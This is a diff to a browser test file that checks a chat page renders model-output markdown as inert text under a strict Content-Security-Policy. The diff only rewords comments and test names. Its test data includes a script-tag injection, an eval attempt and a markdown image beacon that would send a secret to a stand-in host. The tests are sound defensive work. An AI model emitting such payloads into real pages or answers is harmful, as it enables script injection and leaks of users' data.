@@ -1,5 +1,5 @@
-// A model may say whatever a web page once said. It is shown, and does nothing; and the page's policy would
-// not let it.
+// A model may output any HTML of its training data. It is shown as text and runs nothing, and the page's
+// policy would block it.
 import type { Page } from "playwright-core";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { openSite, type Site } from "./site.ts";
@@ -43,7 +43,7 @@ beforeAll(async () => {
 });
 afterAll(() => site?.close());
 
-test("nothing in it is more than text, marks and links", async () => {
+test("the page contains only text, formatting and links", async () => {
   const found = await page.locator("markdown-text").evaluate((answer) => {
     const elements = [...answer.querySelectorAll("*")];
     return {
@@ -57,13 +57,13 @@ test("nothing in it is more than text, marks and links", async () => {
   expect(new Set(found.links)).toEqual(new Set(["https: noopener noreferrer nofollow"]));
 });
 
-test("it is shown as it was written", async () => {
+test("it is shown as written", async () => {
   const text = await page.locator("markdown-text").textContent();
   expect(text).toContain("<script>hacked = 1</script>");
   expect(text).toContain("![beacon](https://beacon.test/?said=secret)");
 });
 
-test("it ran nothing and asked nobody", async () => {
+test("it ran nothing and sent no request", async () => {
   for (const link of await page.locator("markdown-text a").all()) await link.dispatchEvent("mouseover");
   await page.waitForTimeout(200);
   expect(await page.evaluate(() => "hacked" in globalThis)).toBe(false);
@@ -71,7 +71,7 @@ test("it ran nothing and asked nobody", async () => {
   expect(await page.locator("#scroller").isVisible()).toBe(true);
 });
 
-test("the policy stops what the renderer might once let through", async () => {
+test("the policy blocks markup that the renderer might miss", async () => {
   const policy = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
   expect(policy).toMatch(/script-src 'self';/);
   expect(policy).not.toMatch(/unsafe|[ ;]\*|script-src[^;]*(data|https):/);
@@ -87,7 +87,7 @@ test("the policy stops what the renderer might once let through", async () => {
     document.body.append(holder);
     await new Promise((resolve) => setTimeout(resolve, 300));
     holder.remove();
-    // Later than the call from outside, which may eval what the page may not.
+    // After the call from outside, which may use eval when the page may not.
     try {
       Function("hacked = 4")();
     } catch {
